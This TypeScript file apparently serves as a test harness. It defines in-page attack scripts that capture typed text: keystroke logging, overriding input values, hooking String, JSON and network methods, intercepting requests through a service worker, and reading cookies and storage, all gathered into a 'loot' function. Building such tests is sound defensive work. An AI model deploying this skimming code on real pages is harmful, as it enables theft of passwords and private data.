/* Each attack runs in the page, before all other scripts, and uses only its arguments. */

/** Keeps the text, or the texts, that an attack found, or that the given function returns. */
type Take = (value: unknown) => void;
/** All texts in a tree: values, attributes and text, also in open shadow roots and in readable frames. */
type TextsIn = (root: Node) => readonly string[];
/** Makes each of the methods call `after` with its object, its arguments and its result. */
type Tap = (
  owner: object,
  names: readonly string[],
  after: (self: unknown, values: unknown[], result: unknown) => void,
) => void;
/** If it returns a function, that is called whenever fields are filled. */
type Attack = (take: Take, textsIn: TextsIn, tap: Tap) => unknown;
export type Attacks = Readonly<Record<string, Attack>>;

/** Each of these attacks finds text that is typed on the page. */
const readers: Attacks = {
  'reads every root and every frame': (take, textsIn) => () => take(() => textsIn(document)),
  'observes every change in every root': (take, textsIn, tap) => {
    const observer = new MutationObserver((records) =>
      take(() =>
        records.flatMap(({ target, removedNodes }) => [target.getRootNode(), ...removedNodes].flatMap(textsIn)),
      ),
    );
    const observe = (root: Node) =>
      observer.observe(root, { subtree: true, childList: true, attributes: true, characterData: true });
    tap(Element.prototype, ['attachShadow'], (_element, _values, root) => observe(root as ShadowRoot));
    observe(document);
  },
  'captures every event': (take) => {
    let keys = '';
    const types =
      'keydown keyup beforeinput input change compositionupdate focusin selectionchange pointerdown cut paste';
    for (const type of types.split(' '))
      addEventListener(
        type,
        (event) => {
          take(() => (event.composedPath()[0] as HTMLInputElement).value);
          take(() => (event as InputEvent).data);
          const { key, ctrlKey } = event as Partial<KeyboardEvent>;
          if (type === 'keydown' || type === 'pointerdown') keys += key?.length === 1 && !ctrlKey ? key : '\n';
        },
        true,
      );
    return () => take(keys);
  },
  'replaces the value property of inputs': (take) => {
    const { prototype } = HTMLInputElement;
    const { get, set } = Object.getOwnPropertyDescriptor(prototype, 'value')!;
    Object.defineProperty(prototype, 'value', {
      configurable: true,
      get(this: HTMLInputElement) {
        const value: unknown = get?.call(this);
        take(value);
        return value;
      },
      set(this: HTMLInputElement, value: string) {
        take(value);
        set?.call(this, value);
      },
    });
    const { setSelectionRange } = prototype;
    prototype.setSelectionRange = function (...range) {
      take(() => get?.call(this) as unknown);
      setSelectionRange.apply(this, range);
    };
  },
  'replaces methods that every script uses': (take, _textsIn, tap) => {
    const takeTexts = (self: unknown, values: unknown[], result: unknown) => {
      for (const text of [self, ...values, result]) if (typeof text === 'string') take(text);
    };
    tap(String.prototype, ['replace', 'replaceAll', 'slice', 'split', 'trim', 'match', 'matchAll'], takeTexts);
    tap(RegExp.prototype, ['exec', 'test'], takeTexts);
    tap(Array.prototype, ['join', 'includes', 'push'], takeTexts);
    tap(Map.prototype, ['set', 'get'], takeTexts);
    tap(WeakMap.prototype, ['set', 'get'], takeTexts);
    tap(JSON, ['stringify', 'parse'], takeTexts);
    tap(TextEncoder.prototype, ['encode'], takeTexts);
  },
  'replaces every function that sends requests': (take, _textsIn, tap) => {
    const takeValues = (_self: unknown, values: unknown[]) => values.forEach(take);
    tap(window, ['fetch'], (_self, [, init]) => take((init as RequestInit | undefined)?.body));
    window.Request = class extends Request {
      constructor(input: RequestInfo | URL, init?: RequestInit) {
        take(init?.body);
        super(input, init);
      }
    };
    tap(XMLHttpRequest.prototype, ['send', 'open'], takeValues);
    tap(Navigator.prototype, ['sendBeacon'], takeValues);
    tap(WebSocket.prototype, ['send'], takeValues);
    tap(RTCDataChannel.prototype, ['send'], takeValues);
    tap(HTMLFormElement.prototype, ['submit'], takeValues);
  },
  'reads every request in a service worker': (take) => {
    void navigator.serviceWorker.register('worker.js');
    navigator.serviceWorker.addEventListener('message', ({ data }) => take(data));
  },
};

/** Each finds only the page's own text, which shows that it looks in the right place. */
const searchers: Attacks = {
  'listens on every message channel': (take, _textsIn, tap) => {
    const takeAll = (value: unknown) => take(() => JSON.stringify(value));
    const hear = ({ data }: MessageEvent<unknown>) => takeAll(data);
    addEventListener('message', hear, true);
    const OwnChannel = MessageChannel;
    window.MessageChannel = class extends OwnChannel {
      constructor() {
        super();
        this.port1.addEventListener('message', hear);
        this.port2.addEventListener('message', hear);
      }
    };
    for (const owner of [MessagePort.prototype, BroadcastChannel.prototype, Worker.prototype, window])
      tap(owner, ['postMessage'], (_self, [message]) => takeAll(message));
  },
  'reads the names and addresses of windows': (take) => () => {
    const framesIn = (root: ParentNode): HTMLIFrameElement[] =>
      Array.from(root.querySelectorAll('*')).flatMap((element) => {
        if (element instanceof HTMLIFrameElement) return [element];
        return element.shadowRoot ? framesIn(element.shadowRoot) : [];
      });
    for (const other of [
      ...framesIn(document).map(({ contentWindow }) => contentWindow),
      window,
      opener,
      parent,
      top,
    ]) {
      take(() => (other as Window).name);
      take(() => (other as Window).location.href);
      take(() => JSON.stringify((other as Window).history.state));
      take(() => (other as Window).document.title);
    }
  },
  'reads the addresses of requests': (take) => {
    new PerformanceObserver((list) => take(() => list.getEntries().map(({ name }) => name))).observe({
      type: 'resource',
      buffered: true,
    });
    return () => take(() => performance.getEntries().map((entry) => JSON.stringify(entry)));
  },
  "reads the page's storage": (take) => () => {
    take(() => [localStorage, sessionStorage].map((storage) => JSON.stringify(Object.entries(storage))));
    take(() => document.cookie);
  },
  'reads log messages and errors': (take, _textsIn, tap) => {
    tap(console, ['log', 'info', 'warn', 'error', 'debug'], (_self, values) => take(() => values.map(String)));
    addEventListener('error', ({ message }) => take(message));
    addEventListener('unhandledrejection', ({ reason }) => take(() => String(reason)));
  },
  'reads the data of elements and events': (take, _textsIn, tap) => {
    tap(EventTarget.prototype, ['dispatchEvent'], (_self, [event]) => {
      if (event instanceof CustomEvent) take(() => JSON.stringify(event.detail));
    });
    return () => {
      for (const element of document.querySelectorAll('*')) {
        if (!element.localName.includes('-')) continue;
        for (const name in element)
          take(() => {
            const value: unknown = element[name as keyof Element];
            return typeof value === 'object' && !(value instanceof Node) ? JSON.stringify(value) : value;
          });
      }
    };
  },
};

export const attacks = { readers, searchers };

/** The page's service worker, which handles the page's requests. */
export const workerScript = `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    const request = event.request.clone();
    event.waitUntil(request.text().then(async (body) => {
      for (const client of await clients.matchAll()) client.postMessage(body);
    }));
  });`;

export const attackScript = `'use strict'; (${attack.toString()})([
  ${Object.entries({ ...readers, ...searchers })
    .map(([name, install]) => `[${JSON.stringify(name)}, ${install.toString()}]`)
    .join(',')}
]);`;

function attack(all: readonly (readonly [string, Attack])[]): void {
  const textsIn: TextsIn = (root) => {
    const elements = 'querySelectorAll' in root ? [...(root as ParentNode).querySelectorAll('*')] : [];
    return [
      root.textContent ?? '',
      ...elements.flatMap((element) => [
        (element as HTMLInputElement).value,
        ...Array.from(element.attributes, ({ value }) => value),
        ...[element.shadowRoot, (element as HTMLIFrameElement).contentDocument].flatMap((inner) =>
          inner ? textsIn(inner) : [],
        ),
      ]),
    ];
  };
  const tap: Tap = (owner, names, after) => {
    const methods = owner as Record<string, (...values: unknown[]) => unknown>;
    for (const name of names) {
      const own = methods[name]!;
      methods[name] = function (this: unknown, ...values) {
        const result: unknown = own.apply(this, values);
        after(this, values, result);
        return result;
      };
    }
  };
  const taken = all.map(([name, install]) => ({ name, install, texts: new Set<string>() }));
  /** The attack that reads a text. Other attacks may have patched the methods that it uses. */
  let reading: string | undefined;
  const { add } = Set.prototype;
  const looks = taken.map(({ name, install, texts }) => {
    const take: Take = (value) => {
      if (reading && reading !== name) return;
      const outer = reading;
      reading = name;
      try {
        const read = typeof value === 'function' ? (value as () => unknown)() : value;
        for (const text of Array.isArray(read) ? read : [read]) if (typeof text === 'string') add.call(texts, text);
      } catch (error) {
        add.call(texts, String(error));
      }
      reading = outer;
    };
    return install(take, textsIn, tap);
  });
  Object.assign(window, {
    loot: () => {
      for (const look of looks) if (typeof look === 'function') (look as () => void)();
      return taken.map(({ name, texts }) => [name, [...texts].join('\n')]);
    },
  });
}
